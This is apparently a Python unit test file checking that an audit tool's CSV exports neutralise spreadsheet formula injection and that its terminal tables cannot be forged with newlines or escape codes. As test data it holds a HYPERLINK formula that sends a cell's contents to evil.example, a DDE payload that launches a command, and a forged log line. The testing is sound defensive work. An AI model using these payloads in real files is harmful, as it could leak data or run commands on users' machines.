"""Names people chose reach the auditor's exports: a spreadsheet must not run them as formulas,
and a terminal table must not print a row nobody recorded."""

from __future__ import annotations

import csv
import io

from prompt_rollback.domain.timeline import entries, render, render_tenures, tenures

from tests.unit.test_timeline import change

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text():
    records = [
        change("2026-04-16T09:00:00.000000Z", None, 5, FORMULA, ["evt_a"]),
        change("2026-04-17T09:00:00.000000Z", 5, 6, "+cmd|' /C calc'!A0", ["evt_b"]),
        change("2026-04-18T09:00:00.000000Z", 6, 7, "@SUM(1+1)", ["evt_c"]),
        change("2026-04-19T09:00:00.000000Z", 7, 8, "\tjane", ["evt_d"]),
    ]
    audit = _rows(render(entries(records), "csv"))
    assert [row["who"] for row in audit] == [f"'{FORMULA}", "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'\tjane"]
    history = _rows(render_tenures(tenures(records), "csv"))
    assert history[0]["put there by"] == f"'{FORMULA}"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in audit + history for cell in row.values())


def test_a_newline_in_a_name_does_not_print_a_row_in_the_table():
    forged = "mallory\n2026-04-17T15:00:00Z  financial-analysis  change  moved  v6  v5  alice@example.com"
    records = [
        change("2026-04-16T09:00:00.000000Z", None, 5, "alice@example.com", ["evt_a"]),
        change("2026-04-17T14:12:31.000000Z", 5, 6, forged + "\x1b[2K\r", ["evt_b"]),
    ]
    table = render(entries(records), "table")
    assert len(table.splitlines()) == 3  # the header and the two records
    assert "\x1b" not in table and "\r" not in table
    assert len(render_tenures(tenures(records), "table").splitlines()) == 3
